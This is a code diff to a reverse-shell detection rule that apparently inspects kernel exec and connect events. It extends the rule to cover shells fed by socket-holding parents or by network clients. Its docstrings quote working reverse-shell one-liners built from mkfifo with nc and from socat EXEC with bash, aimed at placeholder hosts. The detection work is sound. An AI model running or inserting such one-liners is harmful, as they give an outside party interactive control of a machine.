@@ -13,7 +13,16 @@ connection. The kernel events show that connection in one of a few ways, one per
 * a shell reading commands from stdin and a process that connected, joined by a pipe
   (``mkfifo f; cat f | sh -i | nc host port > f``); without pipe identities from the
   collector, a network client in the same pipeline (process group, or the same parent,
-  with pipes on both) stands in for the pipe.
+  with pipes on both) stands in for the pipe;
+* a shell reading commands from stdin, started by a process that holds an open
+  connection it made (a python relaying between its socket and the shell's pipes), or
+  by a network client (socat, nc), which relays whatever it connects to.
+  Programs that fetch something and then run ``sh -c`` are not this: ``-c`` and scripts do
+  not read commands from stdin, and a connection closed before the shell started is none.
+
+The process that started a shell may be a fork that never exec'd (``socat SYSTEM:``
+forks, then runs ``sh -c``): it has no entry of its own, and its sockets are its
+parent's, so the leader of the shell's process group stands in for it.
 """
 
 from __future__ import annotations
@@ -31,8 +40,9 @@ from processors.engine.proctable import (
     piped,
     same_pipeline,
 )
+from processors.engine.programs import NET_CLIENTS, unversioned
 from processors.engine.record import record
-from processors.engine.state import KProc
+from processors.engine.state import ContainerState, KProc
 from schemas import ConnectEvent, ExecEvent
 
 RULE = "process.reverse_shell"
@@ -55,15 +65,53 @@ def exec_evidence(run: StepRun, ev: ExecEvent, p: KProc) -> str | None:
     if p.has(SHELL) and inet_stdio(ev.parent_stdio):
         parent = ev.parent_comm or ev.parent_exe or "its parent"
         return f"{p.name} started by {parent}, whose stdin/stdout is a network socket"
-    parent_proc = run.state.procs.get(ev.ppid)
+    parent_proc = _starter(run, ev)
     launcher = parent_proc is not None and parent_proc.connected and parent_proc.flags & LAUNCHERS
     if parent_proc is not None and launcher and (p.has(SHELL) or p.has(INET_STDIO)):
         return f"{parent_proc.name} connected to {parent_proc.dest}, then started {p.name}"
     if p.has(SHELL) and p.has(READS_STDIN):
-        partner = _pipe_partner(run, p)
-        if partner is not None:
-            return _piped_why(p, partner)
+        return _relayed(run, ev, p, parent_proc)
     return None
+
+
+def _relayed(run: StepRun, ev: ExecEvent, p: KProc, parent_proc: KProc | None) -> str | None:
+    """A shell reading commands from stdin, fed by a process that holds the connection."""
+    partner = _pipe_partner(run, p)
+    if partner is not None:
+        return _piped_why(p, partner)
+    if parent_proc is not None and holds_connection(run.state, parent_proc.pid):
+        return (
+            f"{p.name} reads commands from {parent_proc.name}, which holds a connection to {parent_proc.dest}"
+        )
+    client = _net_client_parent(ev, parent_proc)
+    if client:
+        return f"{p.name} reads commands from the network client {client} that started it"
+    return None
+
+
+def _net_client_parent(ev: ExecEvent, parent: KProc | None) -> str:
+    """A network client (socat, nc) that started a shell reading its stdin: the client
+    relays its connection to that shell, whichever it opened first (``socat EXEC:'bash
+    -i',pty TCP:host:port`` starts the shell, then connects)."""
+    if parent is not None and parent.has(NETCLIENT):
+        return parent.name
+    names = {ev.parent_comm, ev.parent_exe.rsplit("/", 1)[-1]} - {""}
+    return next((n for n in sorted(names) if unversioned(n) in NET_CLIENTS), "")
+
+
+def _starter(run: StepRun, ev: ExecEvent) -> KProc | None:
+    """The process that started this one: its parent, or for a parent that is a fork
+    without an exec of its own (no entry), the leader of the process group."""
+    procs = run.state.procs
+    parent = procs.get(ev.ppid)
+    if parent is None and ev.pgid and ev.pgid != ev.pid:
+        parent = procs.get(ev.pgid)
+    return parent
+
+
+def holds_connection(state: ContainerState, pid: int) -> bool:
+    """``pid`` made a connection that is still open (counted, not yet closed)."""
+    return any(owner == pid for owner in state.conns.values())
 
 
 def _piped_why(shell: KProc, client: KProc) -> str:
